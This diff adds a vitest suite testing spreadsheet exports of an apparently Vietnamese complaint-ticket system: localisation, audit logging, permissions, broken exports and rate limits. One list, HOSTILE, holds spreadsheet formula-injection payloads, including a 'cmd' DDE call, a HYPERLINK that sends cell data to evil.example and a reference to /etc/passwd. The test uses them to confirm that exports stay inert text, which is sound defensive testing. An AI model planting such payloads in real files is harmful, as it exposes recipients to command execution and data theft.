@@ -1,0 +1,320 @@
+import { sql } from 'kysely'
+import { afterAll, beforeAll, describe, expect, test } from 'vitest'
+import { modules } from '../../src/modules/index.ts'
+import { json, row, rows } from '../../src/server/db/db.ts'
+import { wallClock } from '../../src/shared/format.ts'
+import type { Definition } from '../../src/shared/resource.ts'
+import { harmless } from '../../src/shared/sheet.ts'
+import { type Chain, type Person, startChain } from '../setup/chain.ts'
+import { type OfficeSheet, opened, openedAll } from '../setup/office.ts'
+
+let chain: Chain
+let admin: Person
+beforeAll(async () => {
+  chain = await startChain({ EXPORTS_AT_ONCE: '20' })
+  admin = await chain.person()
+})
+afterAll(() => chain.stop())
+
+interface Exported {
+  status: number
+  name: string
+  id: string
+  bytes: Uint8Array
+}
+
+async function exported(path: string, by: Person = admin, language = 'vi'): Promise<Exported> {
+  const answer = await fetch(`${chain.url}/api/${path}`, {
+    headers: { authorization: `Bearer ${by.token}`, cookie: `lang=${language}` },
+  })
+  const name = /filename\*=UTF-8''(.*)$/.exec(answer.headers.get('content-disposition') ?? '')?.[1] ?? ''
+  return {
+    status: answer.status,
+    name: decodeURIComponent(name),
+    id: answer.headers.get('x-export') ?? '',
+    bytes: new Uint8Array(await answer.arrayBuffer()),
+  }
+}
+
+const texts = (sheet: OfficeSheet | undefined): string[][] =>
+  sheet?.rows.map((line) => line.map((cell) => cell.text)) ?? []
+const db = () => chain.running.house.db
+const today = () => wallClock(new Date(), 'Asia/Ho_Chi_Minh').day
+
+describe('an export', () => {
+  test('is the list as it stands: filters, order, chosen columns, words and codes in the reader’s language', async () => {
+    const first = await chain.ticket(admin, {
+      title: 'Sữa hết hạn',
+      priority: 'high',
+      cost: 1_250_000,
+      phone: '0912000001',
+    })
+    const second = await chain.ticket(admin, { title: 'Nhân viên thô lỗ', store: chain.stores[1] })
+    await chain.ticket(admin, { title: 'Không liên quan', feedback_type: chain.types[1] })
+    const columns = [
+      'priority',
+      'issue_number',
+      'title',
+      'store',
+      'cost',
+      'phone',
+      'created_at',
+      'status',
+      'created_by',
+    ]
+    const path = `ticket/export?feedback_type=${chain.types[0]}&sort=title&perpage=1000${columns.map((name) => `&columns=${name}`).join('')}`
+    const vi = await exported(path)
+    expect(vi.status).toBe(200)
+    expect(vi.name).toBe(`bao-cao-ngay-${today()}.xlsx`)
+    const [sheet, ...others] = await opened(vi.bytes)
+    expect(others).toEqual([])
+    const [head, one, two, three] = texts(sheet)
+    expect(head).toEqual([
+      'Mức ưu tiên',
+      'Số',
+      'Tiêu đề',
+      'Cửa hàng',
+      'Chi phí',
+      'Số điện thoại',
+      'Tạo lúc',
+      'Trạng thái',
+      'Người tạo',
+    ])
+    expect(one?.slice(0, 4)).toEqual([
+      expect.any(String),
+      second.issue_number,
+      'Nhân viên thô lỗ',
+      'Siêu thị Long Biên',
+    ])
+    expect(two?.[0]).toBe('Cao')
+    expect(two?.[1]).toBe(first.issue_number)
+    expect(two?.[7]).toBe('Mới')
+    expect(three).toBeUndefined()
+    const cells = sheet?.rows[2]
+    expect(cells?.map(({ type }) => type)).toEqual([
+      'string',
+      'string',
+      'string',
+      'string',
+      'float',
+      'string',
+      'date',
+      'string',
+      'string',
+    ])
+    expect(cells?.[4]?.value).toBe('1250000')
+    expect(cells?.[5]?.text).toBe('0912000001')
+    const stored = await row<{ created_at: string }>(
+      db(),
+      sql`select created_at::text as created_at from complaints where id = ${first.id}`,
+    )
+    const { day, time } = wallClock(new Date(stored?.created_at ?? ''), 'Asia/Ho_Chi_Minh')
+    expect(cells?.[6]?.value?.slice(0, 16)).toBe(`${day}T${time}`)
+    const ko = await exported(path, admin, 'ko')
+    expect(texts((await opened(ko.bytes))[0])[0]).not.toEqual(head)
+    expect(ko.name).toMatch(/^\p{Script=Hangul}.*\.xlsx$/u)
+  })
+
+  test('tells its rows to the audit and to who asks how far it is, and an alarm for many of personal data', async () => {
+    const done = await exported('store/export?columns=*')
+    const state = await chain.call<{ state: string; rows: number; bytes: number }>('GET', `export/${done.id}`, {
+      by: admin,
+    })
+    expect(state.data).toMatchObject({ state: 'done', rows: 2, bytes: done.bytes.length })
+    const other = await chain.person()
+    expect((await chain.call('GET', `export/${done.id}`, { by: other })).status).toBe(404)
+    await sql`insert into shippers (code, name, phone, identity_number, store)
+      select 'G' || n, 'Người giao ' || n, '09' || (10000000 + n), '0010900' || (10000 + n), ${chain.stores[0]}::bigint from generate_series(1, 5001) n`.execute(
+      db(),
+    )
+    await exported('shipper/export')
+    const told = await rows<{ action: string; changes: { rows: [null, number] } }>(
+      db(),
+      sql`select action, changes from activity where module = 'shippers' and actor = ${admin.id} and action like '%export%' order by id`,
+    )
+    expect(told.map(({ action, changes }) => [action, changes.rows[1]])).toEqual([
+      ['export', 5001],
+      ['large export', 5001],
+    ])
+    const [sheet] = await opened((await exported('shipper/export?columns=identity_number&search=giao 17 ')).bytes)
+    expect(texts(sheet)[1]).toEqual(['•••••017'])
+  })
+
+  test('holds only what the scope opens, and needs its permission', async () => {
+    const permissions = {
+      complaints: { add: false, edit: false, delete: false, read: true, report: true, other: false },
+    }
+    const keeper = await chain.person({ permissions, scope: 'store', store: chain.stores[1] })
+    const [sheet] = await opened((await exported('ticket/export?columns=store', keeper)).bytes)
+    expect(new Set(texts(sheet).slice(1).flat())).toEqual(new Set(['Siêu thị Long Biên']))
+    const reader = await chain.person({ permissions: { complaints: { ...permissions.complaints, report: false } } })
+    expect((await exported('ticket/export', reader)).status).toBe(403)
+    expect((await exported('ticket/export?status=deleted', keeper)).status).toBe(403)
+    for (const wrong of ['columns=password_hash', 'columns=follow_token', 'columns=nothing', 'sort=x', 'status=x'])
+      expect((await exported(`user/export?${wrong}`)).status, wrong).toBe(422)
+  })
+
+  test('breaks off, and never ends as a whole file, when its process dies or a row cannot be read', async () => {
+    await sql`insert into tags (name) select 'Nhãn ' || n from generate_series(1, 60000) n`.execute(db())
+    const answer = await fetch(`${chain.url}/api/tag/export?columns=*`, {
+      headers: { authorization: `Bearer ${admin.token}` },
+    })
+    const id = answer.headers.get('x-export')
+    await sql`select pg_terminate_backend(pid) from pg_stat_activity where application_name = 'export' and datname = current_database()`.execute(
+      db(),
+    )
+    await expect(answer.arrayBuffer()).rejects.toThrow()
+    await expect
+      .poll(async () => (await chain.call<{ state: string }>('GET', `export/${id}`, { by: admin })).data.state)
+      .toBe('broken')
+    const gone = await fetch(`${chain.url}/api/tag/export`, { headers: { authorization: `Bearer ${admin.token}` } })
+    await gone.body?.cancel()
+    await expect
+      .poll(
+        async () =>
+          (
+            await rows(
+              db(),
+              sql`select 1 as n from pg_stat_activity where application_name = 'export' and datname = current_database()`,
+            )
+          ).length,
+      )
+      .toBe(0)
+  })
+})
+
+test('one person runs only so many at once, and begins only so many an hour', async () => {
+  const strict = await startChain({ EXPORTS_AT_ONCE: '2', EXPORTS_PER_HOUR: '3', RATE_LIMITS: '1' })
+  const person = await strict.person()
+  const ask = () => strict.call('GET', 'store/export', { by: person })
+  await sql`insert into exports (user_id, module) values (${person.id}, 'stores'), (${person.id}, 'stores')`.execute(
+    strict.running.house.db,
+  )
+  expect(await ask()).toMatchObject({ status: 429, code: 1701 })
+  await sql`update exports set seen_at = now() - interval '1 minute'`.execute(strict.running.house.db)
+  expect((await ask()).status).toBe(200)
+  const late = await ask()
+  expect(late).toMatchObject({ status: 429, code: 1700 })
+  expect(Number(late.headers.get('retry-after'))).toBeGreaterThan(3000)
+  await strict.stop()
+})
+
+/** S44: cells that a spreadsheet would run, fetch or lose. */
+const HOSTILE = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(A1)',
+  '\t=1+1',
+  '\r=1+1',
+  '\n=1+1',
+  ' =1+1',
+  '  +1',
+  '\u0001=1+1',
+  '\u200b=1+1',
+  '＝1+1',
+  '＋1',
+  '－1',
+  '＠SUM(A1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?x="&A1,"x")',
+  '=WEBSERVICE("http://evil.example")',
+  '=IMPORTXML("http://evil.example","//a")',
+  '=DDE("cmd";"/C calc";"x")',
+  "='file:///etc/passwd'#$A.A1",
+  '<c><f>1+1</f></c>',
+  '</t></is></c><c><f>1+1</f></c>',
+  '&#61;1+1',
+  ']]>',
+  '_x003D_1+1',
+  '"=1+1"',
+  "'=1+1",
+  '\ufeff=1+1',
+  '\u202e=1+1',
+  '0012',
+  '1E5',
+  '1/2',
+  '3-4',
+  'TRUE',
+  '#N/A',
+  'Giá tiền ₫',
+  '한국어 "값"',
+  '😀=1',
+  '\\0',
+  '%0A=1',
+  ';=1',
+  ',=1',
+  '|=1',
+]
+
+test('hostile words stay words in every export (S44)', async () => {
+  const exporting = modules.filter((one) => one.sheets.export)
+  const answers: Uint8Array[] = []
+  for (const module of exporting) {
+    const made = Array.from(
+      { length: 1000 },
+      (_, at) => `${HOSTILE[at % HOSTILE.length]}${at >= HOSTILE.length ? ` ${at}` : ''}`,
+    )
+    await fill(module.name, wordsOf(module), made)
+    answers.push((await exported(`${module.wire}/export?columns=${wordsOf(module)}&sort=id`)).bytes)
+  }
+  const books = await openedAll(answers)
+  for (const [at, module] of exporting.entries()) {
+    const [sheet, ...others] = books[at] ?? []
+    expect(others, module.name).toEqual([])
+    const cells = sheet?.rows.slice(1).map((line) => line[0]) ?? []
+    const stored = await rows<{ value: string }>(
+      db(),
+      sql`select ${sql.ref(wordsOf(module))} as value from ${sql.table(module.table)} where deleted_at is null order by id`,
+    )
+    expect(stored.length, module.name).toBeGreaterThanOrEqual(1000)
+    expect(cells, module.name).toHaveLength(stored.length)
+    expect(
+      cells.filter((cell) => cell?.formula !== undefined),
+      module.name,
+    ).toEqual([])
+    expect(new Set(cells.map((cell) => cell?.type)), module.name).toEqual(new Set(['string']))
+    const visible = (text: string) =>
+      harmless(text)
+        .replace(/\r\n?/g, '\n')
+        .replace(/[^\P{Cc}\n\t\u007f-\u009f]/gu, '')
+    expect(
+      cells.map((cell) => cell?.text.trim()),
+      module.name,
+    ).toEqual(stored.map(({ value }) => visible(value).trim()))
+  }
+}, 60_000)
+
+const wordsOf = (module: Definition) => (module.fields.name ? 'name' : module.title)
+
+/** Rows of a module whose words are these, past the checks that a form would make. */
+async function fill(name: string, field: string, words: string[]): Promise<void> {
+  const module = modules.find((one) => one.name === name)
+  if (!module) throw new Error(`There is no module ${name}`)
+  const must: Record<string, unknown> = {
+    complaints: {
+      store: chain.stores[0],
+      feedback_type: chain.types[0],
+      feedback_method: 'hotline',
+      customer_name: 'A',
+      phone: '0912345678',
+      content: 'x',
+    },
+    users: { role: 1, department: chain.departments[0] },
+    shippers: { phone: '0912345678', store: chain.stores[0] },
+    'canned-replies': { body: 'x' },
+    solutions: { solution: '0', wording: 'x' },
+  }
+  const unique = Object.keys(module.fields).filter((one) => module.fields[one]?.unique && one !== field)
+  const base = {
+    ...(must[name] as object),
+    ...Object.fromEntries(
+      Object.entries(module.fields).flatMap(([one, { default: usual }]) => (usual === undefined ? [] : [[one, usual]])),
+    ),
+  }
+  await sql`insert into ${sql.table(module.table)} (${sql.join([...Object.keys(base), ...unique, field].map((one) => sql.ref(one)))})
+    select ${sql.join([...Object.keys(base), ...unique, field].map((one) => sql`(p).${sql.ref(one)}`))}
+    from (select jsonb_populate_record(null::${sql.table(module.table)}, ${json(base)} || jsonb_build_object(${field}::text, w)
+      || ${name === 'holidays' ? sql`jsonb_build_object('day', date '1990-01-01' + n::int)` : sql`jsonb_build_object(${sql.join([sql`'nothing', 1`, ...unique.map((one) => sql`${one}::text, 'U' || n`)])})`}) as p
+      from unnest(${words}::text[]) with ordinality u(w, n)) made`.execute(db())
+}
